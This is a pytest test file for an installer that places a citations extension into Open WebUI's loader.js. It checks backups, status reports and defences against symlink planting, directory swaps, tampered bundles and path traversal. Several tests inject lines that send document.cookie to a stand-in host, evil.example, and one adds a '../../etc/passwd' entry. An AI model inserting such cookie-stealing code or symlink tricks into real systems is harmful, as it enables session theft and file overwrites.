"""The installer, as an admin runs it: puts the bundle in loader.js, keeps what was there (and still
runs it), says whether the extension is installed, refuses anything that is not an Open WebUI
frontend or cannot be written, and changes nothing then."""

import hashlib
import os
import pwd
import shutil
import stat
import subprocess
import tempfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from owui_citations import installer
from tests.installer_support import CUSTOMISED
from tests.installer_support import ORIGINAL
from tests.installer_support import ROOT
from tests.installer_support import fake_bundle
from tests.installer_support import fake_parts
from tests.installer_support import make_frontend
from tests.installer_support import run
from tests.installer_support import snapshot

BUILT_BUNDLE = ROOT / "extension" / "dist" / "owui-citations.js"
BACKUP = "loader.js.owui-citations-backup"


def run_in_node(script: Path) -> subprocess.CompletedProcess[str]:
    """Runs a loader.js as a classic script, with `window` standing for the page's global object."""
    runner = (
        "globalThis.window = globalThis;"
        " require('vm').runInThisContext(require('fs').readFileSync(process.argv[1], 'utf8'));"
        " console.log(JSON.stringify(window.order))"
    )
    return subprocess.run(["node", "-e", runner, str(script)], capture_output=True, text=True, timeout=60)


def test_install_replaces_loader_and_keeps_the_original_once(frontend: Path, bundle: Path) -> None:
    loader = frontend / "static" / "loader.js"
    for _ in range(2):  # idempotent: the second run must not back up our own bundle
        result = run("install", "--frontend-dir", str(frontend), "--bundle", str(bundle))
        assert result.returncode == 0, result.stderr
    assert loader.read_text() == bundle.read_text()
    assert (frontend / "static" / BACKUP).read_text() == ORIGINAL

    result = run("uninstall", "--frontend-dir", str(frontend))
    assert result.returncode == 0 and "Restored" in result.stdout
    assert loader.read_text() == ORIGINAL
    assert not (frontend / "static" / BACKUP).exists()


def test_a_customised_loader_is_kept_and_still_runs_after_the_extension(tmp_path: Path, bundle: Path) -> None:
    frontend = make_frontend(tmp_path / "frontend", CUSTOMISED)
    loader = frontend / "static" / "loader.js"
    for _ in range(2):  # reinstalling (an update) chains the kept original again, once
        result = run("install", "--frontend-dir", str(frontend), "--bundle", str(bundle))
        assert result.returncode == 0 and "runs after the extension" in result.stdout, result.stderr
    assert (frontend / "static" / BACKUP).read_text() == CUSTOMISED
    ran = run_in_node(loader)
    assert ran.returncode == 0, ran.stderr
    assert ran.stdout.strip() == '["ours","theirs"]'
    assert "Chained" in run("status", "--frontend-dir", str(frontend), "--bundle", str(bundle)).stdout

    assert run("uninstall", "--frontend-dir", str(frontend)).returncode == 0
    assert loader.read_text() == CUSTOMISED


@pytest.mark.skipif(not BUILT_BUNDLE.is_file(), reason="the bundle is built by `make test` before this runs")
def test_code_chained_after_the_real_bundle_runs_as_written_even_where_the_bundle_cannot_start(tmp_path: Path) -> None:
    # Node is no browser: the bundle fails to start there, and must not take the code after it down.
    sloppy = "undeclaredByTheAdmin = 1; window.order = ['theirs'];\n"  # a ReferenceError in strict mode
    frontend = make_frontend(tmp_path / "frontend", sloppy)
    assert run("install", "--frontend-dir", str(frontend), "--bundle", str(BUILT_BUNDLE)).returncode == 0
    ran = run_in_node(frontend / "static" / "loader.js")
    assert ran.returncode == 0, ran.stderr
    assert ran.stdout.strip().endswith('["theirs"]')


def test_status_tells_when_an_upgrade_of_open_webui_put_its_own_loader_back(frontend: Path, bundle: Path) -> None:
    status = run("status", "--frontend-dir", str(frontend), "--bundle", str(bundle))
    assert status.returncode == 1 and "not installed" in status.stdout

    assert run("install", "--frontend-dir", str(frontend), "--bundle", str(bundle)).returncode == 0
    status = run("status", "--frontend-dir", str(frontend), "--bundle", str(bundle))
    assert status.returncode == 0 and "installed, version 0.2.0" in status.stdout, status.stdout

    (frontend / "static" / "loader.js").write_text(ORIGINAL)  # what `pip install -U open-webui` does
    status = run("status", "--frontend-dir", str(frontend), "--bundle", str(bundle))
    assert status.returncode == 1 and "NOT INSTALLED" in status.stdout and "upgrade" in status.stdout

    assert run("install", "--frontend-dir", str(frontend), "--bundle", str(bundle)).returncode == 0
    assert run("status", "--frontend-dir", str(frontend), "--bundle", str(bundle)).returncode == 0


def test_status_tells_when_the_installed_extension_is_older_than_the_package(frontend: Path, tmp_path: Path) -> None:
    older = fake_bundle(tmp_path / "old", "0.1.0")
    assert run("install", "--frontend-dir", str(frontend), "--bundle", str(older)).returncode == 0
    status = run("status", "--frontend-dir", str(frontend), "--bundle", str(fake_bundle(tmp_path / "new", "0.2.0")))
    assert status.returncode == 1 and "version 0.1.0; this package has 0.2.0" in status.stdout


def test_a_stale_backup_left_by_an_undone_install_is_kept(frontend: Path, bundle: Path) -> None:
    static = frontend / "static"
    (static / BACKUP).write_text("// the loader.js of the Open WebUI before the upgrade\n")
    (static / "loader.js").write_text(CUSTOMISED)
    assert run("install", "--frontend-dir", str(frontend), "--bundle", str(bundle)).returncode == 0
    assert (static / BACKUP).read_text() == CUSTOMISED
    kept = [p.read_text() for p in static.glob(f"{BACKUP}-*")]
    assert kept == ["// the loader.js of the Open WebUI before the upgrade\n"]


@pytest.mark.parametrize("breakage", ["no index", "no loader", "index without loader"])
def test_a_directory_that_is_not_a_frontend_is_refused_unchanged(frontend: Path, bundle: Path, breakage: str) -> None:
    if breakage == "no index":
        (frontend / "index.html").unlink()
    elif breakage == "no loader":
        (frontend / "static" / "loader.js").unlink()
    else:
        (frontend / "index.html").write_text("<html></html>")
    before = snapshot(frontend)
    for action in ("install", "status"):
        result = run(action, "--frontend-dir", str(frontend), "--bundle", str(bundle))
        assert result.returncode == 2 and str(frontend) in result.stderr
    assert snapshot(frontend) == before


def test_a_missing_or_foreign_bundle_is_refused_unchanged(frontend: Path, tmp_path: Path) -> None:
    foreign = tmp_path / "other.js"
    foreign.write_text("alert(1)")
    before = snapshot(frontend)
    for candidate in (tmp_path / "absent.js", foreign):
        result = run("install", "--frontend-dir", str(frontend), "--bundle", str(candidate))
        assert result.returncode == 2 and "make dist" in result.stderr
    assert snapshot(frontend) == before


@pytest.fixture
def read_only_frontend(bundle: Path) -> Iterator[tuple[Path, Path | None]]:
    """A frontend the installer may not write. Root writes anything: as root, the installer runs
    as `nobody` (from a world-readable copy of the package)."""
    directory = Path(tempfile.mkdtemp(prefix="owui-citations-ro-"))
    try:
        frontend = make_frontend(directory / "frontend")
        shutil.copy2(bundle, directory / "owui-citations.js")
        shutil.copytree(
            ROOT / "owui_citations", directory / "owui_citations", ignore=shutil.ignore_patterns("__pycache__")
        )
        for path in [directory, *directory.rglob("*")]:
            path.chmod(0o555 if path.is_dir() else 0o444)
        yield frontend, directory if os.geteuid() == 0 else None
    finally:
        for path in [directory, *directory.rglob("*")]:
            path.chmod(0o755)
        shutil.rmtree(directory)


def test_a_read_only_frontend_is_refused_with_the_reason_unchanged(
    read_only_frontend: tuple[Path, Path | None],
) -> None:
    frontend, as_nobody_from = read_only_frontend
    before = snapshot(frontend)
    result = run(
        "install",
        "--frontend-dir",
        str(frontend),
        "--bundle",
        str(frontend.parent / "owui-citations.js"),
        as_nobody_from=as_nobody_from,
    )
    assert result.returncode == 2 and "cannot be written" in result.stderr, result.stderr
    assert snapshot(frontend) == before


def test_uninstall_without_an_install_changes_nothing(frontend: Path) -> None:
    result = run("uninstall", "--frontend-dir", str(frontend))
    assert result.returncode == 0 and "Nothing to uninstall" in result.stdout
    assert (frontend / "static" / "loader.js").read_text() == ORIGINAL


# Whoever can write the frontend (code running as Open WebUI's user) plants links for the admin's
# `sudo owui-citations install` to follow: to have a secret served as /static/loader.js, or a file
# of root's overwritten.
SECRET = "-----BEGIN OPENSSH PRIVATE KEY----- root's\n"
AUTHORIZED_KEYS = "ssh-ed25519 AAAAC3Nza the admin\n"


@pytest.fixture
def secret(tmp_path: Path) -> Path:
    path = tmp_path / "id_ed25519"
    path.write_text(SECRET)
    path.chmod(0o600)
    return path


@pytest.mark.parametrize(
    "planted", ["index.html", "static/loader.js", f"static/{BACKUP}", f"static/{BACKUP} (a named pipe)"]
)
def test_a_link_or_special_file_planted_in_the_frontend_is_refused_unchanged(
    frontend: Path, bundle: Path, secret: Path, planted: str
) -> None:
    assert run("install", "--frontend-dir", str(frontend), "--bundle", str(bundle)).returncode == 0
    path = frontend / planted.removesuffix(" (a named pipe)")
    path.unlink()
    if planted.endswith("(a named pipe)"):
        os.mkfifo(path)  # reading it would wait forever, or find nothing and drop the admin's code
        reason = "is not a regular file"
    else:  # index.html: to a page that passes the frontend check; the others: to the secret
        target = secret
        if planted == "index.html":
            target = frontend.parent / "index.html"
            target.write_text('<script src="/static/loader.js"></script>')
        path.symlink_to(target)
        reason = "is a symbolic link"
    before = snapshot(frontend)
    for action in ("install", "status", "uninstall"):
        bundle_args = ["--bundle", str(bundle)] if action != "uninstall" else []
        result = run(action, "--frontend-dir", str(frontend), *bundle_args)
        assert result.returncode == 2 and f"{path} {reason}" in result.stderr, (action, result.stdout, result.stderr)
    assert snapshot(frontend) == before  # the secret copied nowhere, the link not moved to loader.js
    assert secret.read_text() == SECRET


def test_a_source_map_linked_to_a_secret_is_not_published(frontend: Path, bundle: Path, secret: Path) -> None:
    (bundle.parent / "owui-citations.js.map").symlink_to(secret)
    before = snapshot(frontend)
    result = run("install", "--frontend-dir", str(frontend), "--bundle", str(bundle))
    assert result.returncode == 2 and "owui-citations.js.map is a symbolic link" in result.stderr, result.stderr
    assert snapshot(frontend) == before


@pytest.mark.parametrize(
    "planted",
    [".loader.js.owui-citations-tmp", f".{BACKUP}.owui-citations-tmp", ".owui-citations-write-check"],
)
def test_a_link_planted_where_the_installer_writes_leaves_its_target_untouched(
    frontend: Path, bundle: Path, tmp_path: Path, planted: str
) -> None:
    victim = tmp_path / "authorized_keys"
    victim.write_text(AUTHORIZED_KEYS)
    (frontend / "static" / planted).symlink_to(victim)
    result = run("install", "--frontend-dir", str(frontend), "--bundle", str(bundle))
    assert result.returncode == 0, result.stderr
    assert victim.read_text() == AUTHORIZED_KEYS
    loader = frontend / "static" / "loader.js"
    assert not loader.is_symlink() and loader.read_text() == bundle.read_text()


def test_the_replaced_loader_keeps_its_mode_and_owner(frontend: Path, bundle: Path) -> None:
    # Open WebUI, running as its own user, must still read what root installed, and no one else more.
    loader = frontend / "static" / "loader.js"
    loader.chmod(0o640)
    nobody = pwd.getpwnam("nobody")
    if os.geteuid() == 0:
        os.chown(loader, nobody.pw_uid, nobody.pw_gid)
    owner = (loader.stat().st_uid, loader.stat().st_gid)
    assert run("install", "--frontend-dir", str(frontend), "--bundle", str(bundle)).returncode == 0
    for path in (loader, frontend / "static" / BACKUP):
        found = path.stat()
        assert (stat.S_IMODE(found.st_mode), found.st_uid, found.st_gid) == (0o640, *owner), path


@pytest.mark.parametrize("tampering", ["its code replaced under the banner", "code appended"])
def test_status_reports_a_tampered_loader_and_install_puts_the_bundle_back(
    frontend: Path, bundle: Path, tampering: str
) -> None:
    assert run("install", "--frontend-dir", str(frontend), "--bundle", str(bundle)).returncode == 0
    loader, ours = frontend / "static" / "loader.js", bundle.read_text()
    evil = "fetch('https://evil.example/?' + document.cookie);\n"
    loader.write_text(ours.splitlines(keepends=True)[0] + evil if tampering.startswith("its") else ours + evil)
    status = run("status", "--frontend-dir", str(frontend), "--bundle", str(bundle))
    assert status.returncode == 1 and "TAMPERED" in status.stdout, status.stdout

    result = run("install", "--frontend-dir", str(frontend), "--bundle", str(bundle))
    assert result.returncode == 0 and "tampered" in result.stdout, result.stdout + result.stderr
    assert loader.read_text() == ours
    assert run("status", "--frontend-dir", str(frontend), "--bundle", str(bundle)).returncode == 0


@pytest.mark.parametrize("changed", ["loader.js", BACKUP])
def test_status_warns_when_the_code_chained_after_the_extension_is_not_the_backup(
    tmp_path: Path, bundle: Path, changed: str
) -> None:
    frontend = make_frontend(tmp_path / "frontend", CUSTOMISED)
    assert run("install", "--frontend-dir", str(frontend), "--bundle", str(bundle)).returncode == 0
    path = frontend / "static" / changed
    path.write_text(path.read_text().replace("'theirs'", "'someone else'"))
    status = run("status", "--frontend-dir", str(frontend), "--bundle", str(bundle))
    assert status.returncode == 1 and f"differs from {BACKUP}" in status.stdout, status.stdout

    result = run("install", "--frontend-dir", str(frontend), "--bundle", str(bundle))  # chains the backup again
    assert result.returncode == 0 and f"differed from {BACKUP}" in result.stdout, result.stdout + result.stderr
    assert run("status", "--frontend-dir", str(frontend), "--bundle", str(bundle)).returncode == 0


def test_a_bundle_changed_since_the_build_recorded_its_sha256_is_refused_unchanged(
    frontend: Path, bundle: Path
) -> None:
    recorded = bundle.with_name(bundle.name + ".sha256")  # written by `make dist` (scripts/dist.py)
    recorded.write_text(hashlib.sha256(bundle.read_bytes()).hexdigest() + "\n")
    assert run("install", "--frontend-dir", str(frontend), "--bundle", str(bundle)).returncode == 0
    bundle.write_text(bundle.read_text() + "fetch('https://evil.example/');\n")
    before = snapshot(frontend)
    for action in ("install", "status"):
        result = run(action, "--frontend-dir", str(frontend), "--bundle", str(bundle))
        assert result.returncode == 2 and "SHA-256" in result.stderr, (action, result.stderr)
    assert snapshot(frontend) == before


def test_code_appended_after_the_chained_loader_is_reported_tampered(tmp_path: Path, bundle: Path) -> None:
    frontend = make_frontend(tmp_path / "frontend", CUSTOMISED)
    assert run("install", "--frontend-dir", str(frontend), "--bundle", str(bundle)).returncode == 0
    loader = frontend / "static" / "loader.js"
    installed = loader.read_text()
    loader.write_text(installed + "fetch('https://evil.example/?' + document.cookie);\n")
    status = run("status", "--frontend-dir", str(frontend), "--bundle", str(bundle))
    assert status.returncode == 1 and "TAMPERED" in status.stdout and "differs" not in status.stdout, status.stdout

    result = run("install", "--frontend-dir", str(frontend), "--bundle", str(bundle))
    assert result.returncode == 0 and "tampered" in result.stdout, result.stdout + result.stderr
    assert loader.read_text() == installed


# A directory on the way to loader.js, linked elsewhere: root would write there (another web
# app's static/, say) what it meant for Open WebUI.
@pytest.fixture
def elsewhere(tmp_path: Path) -> Path:
    """Another application's frontend, which the installer must never write."""
    return make_frontend(tmp_path / "other-app", CUSTOMISED)


@pytest.mark.parametrize("linked", ["static", "the frontend itself"])
def test_a_directory_linked_on_the_way_to_loader_is_refused_and_its_target_untouched(
    tmp_path: Path, bundle: Path, elsewhere: Path, linked: str
) -> None:
    if linked == "static":
        frontend = make_frontend(tmp_path / "frontend")
        shutil.rmtree(frontend / "static")
        link = frontend / "static"
        link.symlink_to(elsewhere / "static", target_is_directory=True)
    else:
        link = frontend = tmp_path / "frontend"
        frontend.symlink_to(elsewhere, target_is_directory=True)
    before = snapshot(elsewhere)
    for action in ("install", "status", "uninstall"):
        bundle_args = ["--bundle", str(bundle)] if action != "uninstall" else []
        result = run(action, "--frontend-dir", str(frontend), *bundle_args)
        assert result.returncode == 2 and f"{link} is a symbolic link" in result.stderr, (action, result.stderr)
    assert snapshot(elsewhere) == before
    if linked != "static":  # the admin who made the link is told which directory to name instead
        assert f"--frontend-dir {elsewhere}" in result.stderr


def test_static_swapped_for_a_link_after_the_checks_does_not_redirect_the_writes(
    frontend: Path, bundle: Path, elsewhere: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    checked = frontend / "static.checked"
    load_bundle = installer.load_bundle

    def swap_static_then_load_bundle(path: Path) -> tuple[bytes, str]:
        # Between the checks of the frontend and the first write: static/ moves, a link takes its place.
        (frontend / "static").rename(checked)
        (frontend / "static").symlink_to(elsewhere / "static", target_is_directory=True)
        return load_bundle(path)

    monkeypatch.setattr(installer, "load_bundle", swap_static_then_load_bundle)
    before = snapshot(elsewhere)
    installer.install(frontend, bundle)
    assert snapshot(elsewhere) == before
    assert (checked / "loader.js").read_text() == bundle.read_text()  # written in the directory it checked


def record_sums(bundle: Path, files: list[str]) -> None:
    """The SHA-256 of the bundle, then of each part, as `make dist` records them (scripts/dist.py)."""
    lines = [
        f"{hashlib.sha256((bundle.parent / name).read_bytes()).hexdigest()}  {name}\n" for name in (bundle.name, *files)
    ]
    bundle.with_name(bundle.name + ".sha256").write_text("".join(lines))


def test_the_parts_are_placed_beside_loader_and_uninstall_removes_them(frontend: Path, bundle: Path) -> None:
    files = fake_parts(bundle, "0.2.0")
    record_sums(bundle, files)
    static = frontend / "static"
    older = "/* owui-citations 0.1.0 part locale-xx */\n"  # a part of an older version, which this one has not
    (static / "owui-citations-parts").mkdir()
    (static / "owui-citations-parts" / "locale-xx.js").write_text(older)
    result = run("install", "--frontend-dir", str(frontend), "--bundle", str(bundle))
    assert result.returncode == 0 and "its other parts in" in result.stdout, result.stdout + result.stderr
    for name in files:
        assert (static / name).read_bytes() == (bundle.parent / name).read_bytes()
    assert not (static / "owui-citations-parts" / "locale-xx.js").exists(), "a part no longer in the bundle is removed"
    status = run("status", "--frontend-dir", str(frontend), "--bundle", str(bundle))
    assert status.returncode == 0 and "Parts: 2 in owui-citations-parts/" in status.stdout, status.stdout

    result = run("uninstall", "--frontend-dir", str(frontend))
    assert result.returncode == 0, result.stderr
    assert sorted(p.name for p in static.iterdir()) == ["loader.js"], "the directory of parts is gone too"


@pytest.mark.parametrize("fault", ["changed since recorded", "another version", "missing", "not a part's name"])
def test_a_part_that_is_not_the_bundles_is_refused_unchanged(frontend: Path, bundle: Path, fault: str) -> None:
    files = fake_parts(bundle, "0.2.0")
    record_sums(bundle, files)
    part = bundle.parent / files[0]
    if fault == "changed since recorded":
        part.write_text(part.read_text() + "fetch('https://evil.example/');\n")
    elif fault == "another version":
        part.write_text(part.read_text().replace("0.2.0", "0.1.9"))
        record_sums(bundle, files)
    elif fault == "missing":
        part.unlink()
    else:
        sums = bundle.with_name(bundle.name + ".sha256")
        sums.write_text(sums.read_text() + f"{'0' * 64}  owui-citations-parts/../../etc/passwd\n")
    before = snapshot(frontend)
    result = run("install", "--frontend-dir", str(frontend), "--bundle", str(bundle))
    assert result.returncode == 2, result.stdout
    assert ("SHA-256" if fault == "changed since recorded" else "part") in result.stderr, result.stderr
    assert snapshot(frontend) == before


def test_status_reports_a_missing_or_changed_part_and_install_puts_it_back(frontend: Path, bundle: Path) -> None:
    files = fake_parts(bundle, "0.2.0")
    assert run("install", "--frontend-dir", str(frontend), "--bundle", str(bundle)).returncode == 0
    installed = frontend / "static" / files[0]
    installed.write_text(installed.read_text() + "fetch('https://evil.example/');\n")
    (frontend / "static" / files[1]).unlink()
    status = run("status", "--frontend-dir", str(frontend), "--bundle", str(bundle))
    listed = ", ".join(file.removeprefix("owui-citations-parts/") for file in files)
    assert status.returncode == 1 and f"MISSING OR CHANGED in owui-citations-parts/ — {listed}" in status.stdout
    assert run("install", "--frontend-dir", str(frontend), "--bundle", str(bundle)).returncode == 0
    assert installed.read_bytes() == (bundle.parent / files[0]).read_bytes()
    assert run("status", "--frontend-dir", str(frontend), "--bundle", str(bundle)).returncode == 0


@pytest.mark.parametrize("planted", ["a part", "the directory of parts"])
def test_a_link_planted_among_the_parts_is_refused_and_its_target_untouched(
    frontend: Path, bundle: Path, secret: Path, planted: str
) -> None:
    files = fake_parts(bundle, "0.2.0")
    assert run("install", "--frontend-dir", str(frontend), "--bundle", str(bundle)).returncode == 0
    parts = frontend / "static" / "owui-citations-parts"
    if planted == "a part":
        (frontend / "static" / files[0]).unlink()
        (frontend / "static" / files[0]).symlink_to(secret)
    else:  # to a directory of root's choosing
        shutil.rmtree(parts)
        elsewhere = secret.parent / "elsewhere"
        elsewhere.mkdir()
        parts.symlink_to(elsewhere)
    before = snapshot(frontend)
    for action in ("install", "uninstall"):
        bundle_args = ["--bundle", str(bundle)] if action == "install" else []
        result = run(action, "--frontend-dir", str(frontend), *bundle_args)
        assert result.returncode == 2 and "is a symbolic link" in result.stderr, (action, result.stderr)
    assert snapshot(frontend) == before and secret.read_text() == SECRET
    assert not list(secret.parent.glob("elsewhere/*"))
